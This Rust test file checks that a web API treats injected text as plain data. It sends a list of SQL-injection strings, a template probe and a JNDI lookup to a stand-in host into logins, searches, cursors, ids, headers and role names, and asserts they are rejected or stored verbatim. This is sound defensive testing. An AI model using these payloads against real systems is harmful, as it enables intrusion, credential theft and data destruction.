//! What means something to a database means nothing in an identifier, a search, a cursor, an id or a header.

use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use serde_json::json;

use crate::{
    house::{House, PASSWORD, on_every_store},
    http::{ask, get, post},
};

on_every_store!(no_text_reaches_the_database_as_anything_but_a_text);

const TEXTS: [&str; 16] = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE customers; --",
    "\" OR \"\"=\"",
    "\\' OR 1=1 --",
    "first@customer.test' --",
    "first@customer.test'/*",
    "' UNION SELECT password_hash FROM customers --",
    "1; SELECT pg_sleep(30)",
    "$1",
    "?1",
    "${jndi:ldap://evil.test/x}",
    "%",
    "_____@customer.test",
    "first@customer.tes_",
    "{{7*7}}",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn no_text_reaches_the_database_as_anything_but_a_text(house: &House) {
    let address = house.address();
    let admin = house.person("admin", "super-admin").sign_in(address);
    let count = || house.sql("SELECT count(*) FROM customers WHERE id = 1");
    for text in TEXTS {
        for password in [PASSWORD, text] {
            let body = json!({"email": text, "password": password, "deviceName": text});
            let answer = post("/auth/customer/login").json(&body).to(address);
            assert!(
                matches!(&*answer.verdict(), "401 CREDENTIAL_INVALID" | "422 VALIDATION_FAILED"),
                "{text}: {}",
                answer.verdict()
            );
        }
        let as_admin = |target: String| get(&target).bearer(&admin.access).to(address);
        let found = as_admin(format!("/admin/v1/principals/customer?q={}", encoded(text)));
        assert_eq!(found.verdict(), "200", "{text}");
        let listed = found.json()["data"]["items"].as_array().map_or(0, Vec::len);
        assert_eq!(listed, 0, "{text} finds {}", found.json());
        let cursor = URL_SAFE_NO_PAD.encode(text);
        for call in ["principals/customer", "roles", "permissions"] {
            let answer = as_admin(format!("/admin/v1/{call}?after={cursor}"));
            assert_eq!(answer.verdict(), "422 VALIDATION_FAILED", "{call} after {text}");
        }
        for call in ["principals/customer/", "roles/", "principals/"] {
            let answer = as_admin(format!("/admin/v1/{call}{}", encoded(text)));
            assert!(
                matches!(answer.status, 400 | 404 | 422),
                "{call}{text}: {}",
                answer.verdict()
            );
        }
        let odd_host = get("/public/sql")
            .header("user-agent", text)
            .header("accept-language", text)
            .to(address);
        assert_eq!(odd_host.verdict(), "200");
        let role = ask("POST", "/admin/v1/roles")
            .bearer(&admin.access)
            .json(&json!({"guard": "customer", "name": text}))
            .to(address);
        assert_eq!(role.verdict(), "422 VALIDATION_FAILED", "{text}");
    }
    assert_eq!(count(), "1");
    // As a value it is kept as it is.
    let name = "Robert'); DROP TABLE customers;-- \\ \" % _ ${x}";
    let target = format!("/admin/v1/principals/customer/{}", house.customer().id);
    let renamed = ask("PATCH", &target)
        .bearer(&admin.access)
        .json(&json!({"name": name}))
        .to(address);
    assert_eq!(renamed.verdict(), "200");
    let shown = get(&target).bearer(&admin.access).to(address).json();
    assert_eq!(shown["data"]["attributes"]["name"], name);
}
